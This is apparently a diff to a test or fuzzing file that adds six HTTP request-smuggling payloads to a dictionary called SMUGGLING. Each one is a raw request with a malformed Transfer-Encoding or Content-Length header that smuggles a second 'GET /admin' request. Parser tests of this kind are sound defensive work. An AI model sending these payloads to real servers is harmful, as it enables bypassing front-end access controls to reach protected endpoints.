@@ -549,6 +549,17 @@ SMUGGLING = {
     "nul_in_value": b"GET / HTTP/1.1\r\nHost: x\r\nX-A: a\x00b\r\n\r\nGET /admin HTTP/1.1\r\n\r\n",
     "bare_lf_chunk": b"POST / HTTP/1.1\r\nHost: x\r\nTransfer-Encoding: chunked\r\n\r\n3\nabc\r\n"
                      b"0\r\n\r\nGET /admin HTTP/1.1\r\n\r\n",
+    "te_comma_chunked": b"POST / HTTP/1.1\r\nHost: x\r\nContent-Length: 6\r\n"
+                        b"Transfer-Encoding: ,chunked\r\n\r\n0\r\n\r\nGET /admin HTTP/1.1\r\n\r\n",
+    "tab_before_te": b"POST / HTTP/1.1\r\nHost: x\r\nContent-Length: 6\r\n"
+                     b"\tTransfer-Encoding: chunked\r\n\r\n0\r\n\r\nGET /admin HTTP/1.1\r\n\r\n",
+    "empty_cl": b"POST / HTTP/1.1\r\nHost: x\r\nContent-Length: \r\n\r\nGET /admin HTTP/1.1\r\n\r\n",
+    "hex_cl": b"POST / HTTP/1.1\r\nHost: x\r\nContent-Length: 0x10\r\n\r\n"
+              b"GET /admin HTTP/1.1\r\n\r\n",
+    "cl_trailing_garbage": b"POST / HTTP/1.1\r\nHost: x\r\nContent-Length: 1Z\r\n\r\n"
+                           b"aGET /admin HTTP/1.1\r\n\r\n",
+    "chunk_size_overflow": b"POST / HTTP/1.1\r\nHost: x\r\nTransfer-Encoding: chunked\r\n\r\n"
+                           b"ffffffffffffffffff1\r\nabc\r\n0\r\n\r\nGET /admin HTTP/1.1\r\n\r\n",
 }
 
 
